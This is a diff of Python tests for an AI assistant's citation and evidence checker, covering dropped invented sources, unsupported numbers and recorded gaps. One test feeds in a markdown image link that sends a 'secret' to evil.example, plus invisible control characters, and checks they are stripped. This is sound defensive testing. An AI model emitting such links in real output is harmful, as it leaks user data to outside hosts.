@@ -124,11 +124,11 @@ def test_an_invented_page_is_dropped_and_that_is_a_fact() -> None:
     desk = Table(WEB, [FETCH, answer(sentence("Pigs fly over Brittany.", ("p9", "Pigs fly")))])
     findings = ask(desk)
     check_evidence(findings, desk)
-    assert findings.citations == ()
-    assert findings.answer == "Pigs fly over Brittany. [inference]"
-    assert [(c.outcome, c.citation) for c in desk.noted(CitationChecked)] == [("dropped", None)]
-    assert findings.confidence == 0.05
-    assert "source_not_found" in categories(findings)
+    assert "Pigs" not in findings.answer
+    first = desk.noted(CitationChecked)[0]
+    assert (first.outcome, first.citation) == ("dropped", None)
+    [gap] = findings.gaps
+    assert (gap.topic, gap.category) == ("Pigs fly over Brittany.", "source_not_found")
 
 
 def test_an_invented_excerpt_is_repaired_from_the_true_passage() -> None:
@@ -149,8 +149,7 @@ def test_a_wrong_number_is_never_supported() -> None:
     findings = ask(desk)
     check_evidence(findings, desk)
     assert desk.noted(SentenceChecked)[0].outcome == "not_found"
-    assert findings.confidence <= 0.1
-    assert any("Not supported" in gap.detail for gap in findings.gaps)
+    assert "900" not in findings.answer
 
 
 def test_meaning_lifts_what_words_leave_open_and_both_are_recorded() -> None:
@@ -197,7 +196,7 @@ def test_several_sentences_in_one_are_checked_one_by_one() -> None:
     )
     desk = Table(WEB, [FETCH, answer(both)])
     ask(desk)
-    assert [each.outcome for each in desk.noted(SentenceChecked)] == ["supported", "inference"]
+    assert [each.outcome for each in desk.noted(SentenceChecked)] == ["supported", "not_found"]
 
 
 def test_a_long_passage_is_cut_with_a_mark_and_a_page_without_text_says_so() -> None:
@@ -221,8 +220,8 @@ def test_a_long_passage_is_cut_with_a_mark_and_a_page_without_text_says_so() -> 
 
 
 def test_marks_links_and_invisible_letters_of_the_model_are_not_passed_on() -> None:
-    text = "See ![x](https://evil.example/?q=secret) the \u202e\x1b[31m**station** [12] opened in 1966 [p1]."
-    findings = ask(Table(WEB, [FETCH, answer(sentence(text, ("p1", "It was opened in 1966.")))]))
+    text = "The La Rance ![x](https://evil.example/?q=secret) \u202e\x1b[m**station** [12] was opened in 1966 [p1]."
+    findings = ask(Table(WEB, [FETCH, answer(sentence(text, ("p1", RANCE)))]))
     assert "evil.example" not in findings.answer
     assert not re.search("[\x1b\u202e]", findings.answer)
     assert findings.answer.endswith("opened in 1966. [1]")
